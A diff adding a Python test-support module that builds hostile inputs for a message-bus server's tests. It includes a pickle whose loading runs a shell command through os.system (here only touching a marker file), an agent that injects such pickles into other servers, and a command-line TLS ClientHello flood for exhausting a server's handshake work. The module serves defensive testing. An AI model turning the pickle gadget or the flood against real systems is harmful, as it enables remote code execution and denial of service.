@@ -1,0 +1,111 @@
+"""What attackers send: pickles that run a command when loaded, TLS hellos from strangers."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import pickle
+import shlex
+import socket
+import ssl
+import sys
+import time
+from dataclasses import dataclass
+from typing import Any
+
+from aaabus import Agent, AgentId, Notification
+from aaabus.model.ids import FIRST_USER_STAMP
+from aaabus.model.notifications import AgentCreateRequest
+
+
+class Planted(Notification):
+    """Pickles as ``os.system("touch <marker>")``: loading it anywhere creates ``marker``.
+
+    The class itself lives in a trusted test module; what its pickle names is ``posix.system``,
+    which no server trusts, so a server refusing it never creates the marker.
+    """
+
+    def __init__(self, marker: str | os.PathLike[str]) -> None:
+        self.marker = os.fspath(marker)
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (os.system, (f"touch {shlex.quote(self.marker)}",))
+
+
+def planted_pickle(marker: str | os.PathLike[str]) -> bytes:
+    """The bytes of a :class:`Planted` notification."""
+    return pickle.dumps(Planted(marker))
+
+
+@dataclass
+class Inject(Notification):
+    """Asks an :class:`Injector` to aim a :class:`Planted` pickle at ``server``."""
+
+    server: int
+    marker: str
+    via_factory: bool = False
+
+
+class Injector(Agent):
+    """A compromised peer's agent: its frames carry :class:`Planted` pickles to another server.
+
+    Whatever comes back (the victim's error report, the factory's reply) is forwarded to the
+    server's listeners (``#s.s.0``) for the test to read.
+    """
+
+    def react(self, sender: AgentId, note: Notification) -> None:
+        if isinstance(note, Inject):
+            factory = AgentId.factory(note.server)
+            if note.via_factory:
+                agent_id = AgentId(self.id.server, note.server, FIRST_USER_STAMP + 99)
+                payload = planted_pickle(note.marker)
+                self.send_to(factory, AgentCreateRequest(agent_id, payload, reply=True))
+            else:
+                self.send_to(factory, Planted(note.marker))
+        else:
+            self.send_to(AgentId.server_of(self.id.server), note)
+
+
+def client_hello() -> bytes:
+    """The first flight of a TLS client (a ClientHello), made once and replayed by a flood.
+
+    Each copy makes the server run its expensive part (key exchange, signature) before it can
+    learn that the client has no certificate, at almost no cost to the sender.
+    """
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_side=False)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
+
+
+def tls_flood(host: str, port: int, seconds: float, connections: int = 8) -> int:
+    """Send ClientHellos to ``host:port`` for ``seconds``, ``connections`` at a time; each
+    connection waits for the server's answer (its handshake work done), then hangs up.
+    Returns how many handshakes the server answered."""
+    hello = client_hello()
+    answered = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        socks = []
+        for _ in range(connections):
+            with contextlib.suppress(OSError):
+                sock = socket.create_connection((host, port), timeout=2)
+                sock.sendall(hello)
+                socks.append(sock)
+        for sock in socks:
+            with contextlib.suppress(OSError):
+                if sock.recv(65536):
+                    answered += 1
+            sock.close()
+    return answered
+
+
+if __name__ == "__main__":
+    # python -m tests.support.hostile tls-flood HOST PORT SECONDS: prints the answered count.
+    _, what, host_arg, port_arg, seconds_arg = sys.argv
+    assert what == "tls-flood", what
+    print(tls_flood(host_arg, int(port_arg), float(seconds_arg)), flush=True)
